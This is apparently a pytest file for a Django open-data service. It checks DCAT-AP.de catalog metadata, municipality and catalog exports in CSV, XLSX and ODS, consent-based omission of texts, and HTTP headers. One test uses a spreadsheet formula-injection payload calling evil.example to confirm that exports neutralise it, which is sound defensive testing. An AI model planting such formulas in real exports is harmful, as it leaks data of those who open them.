import csv
import io

import pytest

from accounts.tests.factories import MunicipalityFactory

pytestmark = pytest.mark.django_db
IANA = "https://www.iana.org/assignments/media-types/"


def read_csv(response):
    """The rows a German spreadsheet (and Python's csv with ';') reads from a download."""
    assert response.content.startswith(b"\xef\xbb\xbf"), "UTF-8 byte-order mark"
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def test_dcat_jsonld_describes_every_dataset_with_licence_and_files(client):
    response = client.get("/opendata/?format=jsonld")
    assert response["Content-Type"].startswith("application/ld+json")
    doc = response.json()
    assert doc["@type"] == "dcat:Catalog"
    assert "dcat" in doc["@context"] and "dcatde" in doc["@context"]
    for dataset in doc["dcat:dataset"]:
        assert dataset["@type"] == "dcat:Dataset"
        assert dataset["dct:license"]["@id"].startswith("http://dcat-ap.de/def/licenses/")
        for distribution in dataset["dcat:distribution"]:
            # GovData's harvester reads the attribution text only from distributions.
            assert distribution["dcatde:licenseAttributionByText"]["@language"] == "de"
            assert distribution["dct:license"] == dataset["dct:license"]
            path = distribution["dcat:downloadURL"]["@id"].split("127.0.0.1:8000")[-1]
            file = client.get(path)
            assert file.status_code == 200, path
            media_type = distribution["dcat:mediaType"]["@id"].removeprefix(IANA)
            assert file["Content-Type"].split(";")[0] == media_type


def test_accept_header_selects_jsonld(client):
    response = client.get("/opendata/", headers={"Accept": "application/ld+json"})
    assert response.json()["@type"] == "dcat:Catalog"


def test_html_page_lists_datasets_and_embeds_jsonld(client):
    response = client.get("/opendata/")
    html = response.content.decode()
    assert response.status_code == 200
    assert 'type="application/ld+json"' in html
    assert '<script id="dcat-catalog" type="application/json">' in html
    assert "/opendata/kommunen.csv" in html


def test_municipality_register_csv(client):
    MunicipalityFactory(ags="06632002", name="Bad Hersfeld")
    response = client.get("/opendata/kommunen.csv")
    assert response["Content-Disposition"] == 'attachment; filename="kommunen.csv"'
    rows = read_csv(response)
    assert [(r["ags"], r["name"]) for r in rows] == [("06632002", "Bad Hersfeld")]


def test_unknown_file_is_404(client):
    assert client.get("/opendata/gibtsnicht.zip").status_code == 404


def test_catalog_files_hold_only_published_solutions_with_licence_and_date(client):
    from catalog.models import Status
    from catalog.tests.factories import SolutionFactory

    published = SolutionFactory(title="Parkleitsystem")
    SolutionFactory(title="Entwurf", status=Status.DRAFT)
    response = client.get("/opendata/katalog.json")
    document = response.json()
    assert document["format"] == "smart-region-catalog/1"
    assert [s["title"] for s in document["solutions"]] == ["Parkleitsystem"]
    assert response["Link"] == '<http://dcat-ap.de/def/licenses/cc-by/4.0>; rel="license"'
    assert response["Last-Modified"]
    rows = read_csv(client.get("/opendata/katalog.csv"))
    assert [(r["title"], r["topics"]) for r in rows] == [("Parkleitsystem", "mobilitaet")]
    dcat = client.get("/opendata/?format=jsonld").json()
    catalog = next(
        d
        for d in dcat["dcat:dataset"]
        if d["dct:identifier"] == "http://127.0.0.1:8000/opendata/#katalog"
    )
    assert catalog["dct:license"]["@id"] == "http://dcat-ap.de/def/licenses/cc-by/4.0"
    published.refresh_from_db()
    assert catalog["dct:modified"]["@value"] == published.updated_at.isoformat()
    page = client.get("/opendata/").content.decode()  # HTML: no microseconds in <time>
    assert f'<time datetime="{published.updated_at.replace(microsecond=0).isoformat()}">' in page


def test_catalog_files_carry_free_texts_only_of_consenting_providers(client, municipality_org):
    from catalog.models import Reference
    from catalog.tests.factories import ProviderProfileFactory, SolutionFactory

    def solution(consent, tag):
        provider = ProviderProfileFactory(
            name=f"Anbieter {tag}", description=f"Profiltext-{tag}", open_data_consent=consent
        )
        s = SolutionFactory(
            provider=provider,
            title=f"Lösung {tag}",
            summary=f"Kurztext-{tag}",
            description=f"Langtext-{tag}",
            price_model=f"Preistext-{tag}",
        )
        Reference.objects.create(
            solution=s, municipality=municipality_org.municipality, year=2024,
            summary=f"Referenztext-{tag}",
        )  # fmt: skip
        return s

    solution(True, "offen")
    solution(False, "zu")
    raw_json = client.get("/opendata/katalog.json").content.decode()
    raw_csv = client.get("/opendata/katalog.csv").content.decode("utf-8-sig")
    for text in ("Profiltext", "Kurztext", "Langtext", "Preistext", "Referenztext"):
        assert f"{text}-offen" in raw_json, text
        assert f"{text}-zu" not in raw_json and f"{text}-zu" not in raw_csv, text
    assert "Kurztext-offen" in raw_csv and "Preistext-offen" in raw_csv

    document = client.get("/opendata/katalog.json").json()
    closed = next(s for s in document["solutions"] if s["title"] == "Lösung zu")
    # Facts stay for everyone: names, vocabulary values and references by town and year.
    assert closed["topics"] == ["mobilitaet"] and closed["maturity"] == "market_ready"
    assert closed["references"] == [
        {"municipality": "Bad Hersfeld", "ags": "06632002", "year": 2024, "verified": False}
    ]
    assert "summary" not in closed and "description" not in closed
    provider = next(p for p in document["providers"] if p["id"] == closed["provider"])
    assert provider["name"] == "Anbieter zu" and "description" not in provider
    rows = {r["title"]: r for r in csv.DictReader(io.StringIO(raw_csv), delimiter=";")}
    assert rows["Lösung zu"]["summary"] == "" and rows["Lösung zu"]["provider"] == "Anbieter zu"
    assert rows["Lösung offen"]["summary"] == "Kurztext-offen"


@pytest.fixture
def opendata_settings(settings):
    settings.OPENDATA_CONTRIBUTOR_ID = "hessen"
    settings.OPENDATA_CONTACT_EMAIL = "opendata@smarte-region.example"
    settings.OPENDATA_ISSUED = "2026-12-01"
    return settings


def test_dcat_follows_dcat_ap_de_in_german_whatever_the_request_language(client, opendata_settings):
    MunicipalityFactory(ags="06632002", name="Bad Hersfeld", population_date="2024-12-31")
    doc = client.get("/opendata/?format=jsonld", headers={"Accept-Language": "en"}).json()
    assert doc["dct:title"] == {
        "@value": "Smart Region Marktplatz – Offene Daten",
        "@language": "de",
    }
    assert doc["dct:issued"] == {"@type": "xsd:date", "@value": "2026-12-01"}
    register = next(d for d in doc["dcat:dataset"] if d["@id"].endswith("#kommunen"))
    assert register["dct:identifier"] == "http://127.0.0.1:8000/opendata/#kommunen"
    assert register["dcat:landingPage"] == {"@id": "http://127.0.0.1:8000/opendata/#kommunen"}
    assert register["dct:title"] == {"@value": "Kommunen in Hessen", "@language": "de"}
    assert {"@value": "Gemeindeverzeichnis", "@language": "de"} in register["dcat:keyword"]
    assert register["dcatde:contributorID"] == {"@id": "http://dcat-ap.de/def/contributors/hessen"}
    assert register["dcatde:politicalGeocodingURI"] == {
        "@id": "http://dcat-ap.de/def/politicalGeocoding/stateKey/06"
    }
    assert register["dcatde:politicalGeocodingLevelURI"] == {
        "@id": "http://dcat-ap.de/def/politicalGeocoding/Level/state"
    }
    assert register["dcat:contactPoint"] == {
        "@type": "vcard:Organization",
        "vcard:fn": "Geschäftsstelle Smarte Region Hessen",
        "vcard:hasURL": {"@id": "http://127.0.0.1:8000/opendata/"},
        "vcard:hasEmail": {"@id": "mailto:opendata@smarte-region.example"},
    }
    assert register["dct:issued"] == {"@type": "xsd:date", "@value": "2026-12-01"}
    assert register["dct:modified"] == {"@type": "xsd:date", "@value": "2024-12-31"}
    media_types = {
        d["dcat:downloadURL"]["@id"]: d["dcat:mediaType"] for d in register["dcat:distribution"]
    }
    assert media_types == {
        "http://127.0.0.1:8000/opendata/kommunen.csv": {"@id": IANA + "text/csv"},
        "http://127.0.0.1:8000/opendata/kommunen.xlsx": {
            "@id": IANA + "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        },
        "http://127.0.0.1:8000/opendata/kommunen.ods": {
            "@id": IANA + "application/vnd.oasis.opendocument.spreadsheet"
        },
    }
    formats = [d["dct:format"]["@id"].rsplit("/", 1)[-1] for d in register["dcat:distribution"]]
    assert formats == ["CSV", "XLSX", "ODS"]


def test_contributor_id_is_left_out_until_the_operator_sets_it(client, settings):
    settings.OPENDATA_CONTRIBUTOR_ID = ""
    doc = client.get("/opendata/?format=jsonld").json()
    assert all("dcatde:contributorID" not in d for d in doc["dcat:dataset"])


def test_both_representations_of_the_catalog_vary_on_accept(client):
    jsonld = client.get("/opendata/", headers={"Accept": "application/ld+json"})
    html = client.get("/opendata/")
    assert jsonld["Content-Type"] == "application/ld+json; charset=utf-8"
    assert html["Content-Type"] == "text/html; charset=utf-8"
    for response in (jsonld, html):
        assert "Accept" in [v.strip() for v in response["Vary"].split(",")]


def test_register_is_modified_at_its_reference_date(client):
    MunicipalityFactory(ags="06632002", population_date="2024-12-31")
    MunicipalityFactory(ags="06631009", population_date="2023-12-31")
    response = client.get("/opendata/kommunen.csv")
    assert response["Last-Modified"] == "Tue, 31 Dec 2024 00:00:00 GMT"
    page = client.get("/opendata/").content.decode()
    assert '<time datetime="2024-12-31">31.12.2024</time>' in page


def test_register_csv_reads_in_a_german_spreadsheet(client):
    MunicipalityFactory(
        ags="06632002", name="Bad Hersfeld", population_date="2024-12-31", lat="50.867500"
    )
    response = client.get("/opendata/kommunen.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.split(b"\r\n")[0] == (
        b"\xef\xbb\xbfags;name;kind;district_ags;district;region;population;population_date;lat;lon"
    )
    (row,) = read_csv(response)
    assert (row["ags"], row["district_ags"], row["population_date"], row["lat"]) == (
        "06632002",
        "06632",
        "31.12.2024",
        "50,867500",
    )


def test_register_workbooks_keep_ags_keys_as_text(client):
    import openpyxl
    from odf import opendocument, table, text

    MunicipalityFactory(ags="06632002", name="Bad Hersfeld", population_date="2024-12-31")
    response = client.get("/opendata/kommunen.xlsx")
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"] == 'attachment; filename="kommunen.xlsx"'
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header, row = [[c.value for c in r] for r in sheet.iter_rows()]
    values = dict(zip(header, row, strict=True))
    assert (values["ags"], values["district_ags"], values["population"]) == (
        "06632002",
        "06632",
        20000,
    )
    assert values["population_date"].date().isoformat() == "2024-12-31"

    response = client.get("/opendata/kommunen.ods")
    assert response["Content-Type"] == "application/vnd.oasis.opendocument.spreadsheet"
    document = opendocument.load(io.BytesIO(response.content))
    rows = document.spreadsheet.getElementsByType(table.TableRow)
    cells = [r.getElementsByType(table.TableCell) for r in rows]
    header = [str(c.getElementsByType(text.P)[0]) for c in cells[0]]
    ags = cells[1][header.index("ags")]
    assert (ags.getAttribute("valuetype"), str(ags.getElementsByType(text.P)[0])) == (
        "string",
        "06632002",
    )


def test_catalog_files_never_hand_a_formula_to_a_spreadsheet(client):
    import openpyxl

    from catalog.tests.factories import SolutionFactory

    title = '=HYPERLINK("https://evil.example/?d="&A1;"Klick")'
    SolutionFactory(title=title)
    (row,) = read_csv(client.get("/opendata/katalog.csv"))
    assert row["title"] == "'" + title
    sheet = openpyxl.load_workbook(io.BytesIO(client.get("/opendata/katalog.xlsx").content)).active
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("title") + 1)
    assert (cell.data_type, cell.value) == ("s", title)


def test_page_offers_every_file_by_its_title_with_its_media_type(client):
    html = client.get("/opendata/").content.decode()
    assert (
        '<li id="kommunen.xlsx"><a href="/opendata/kommunen.xlsx" '
        'type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" download>'
        "Verzeichnis als Excel-Arbeitsmappe (XLSX)</a></li>"
    ) in html
    # The 66-letter media type is not printed: it would not fit a 390 px screen.
    assert ">(application/vnd" not in html
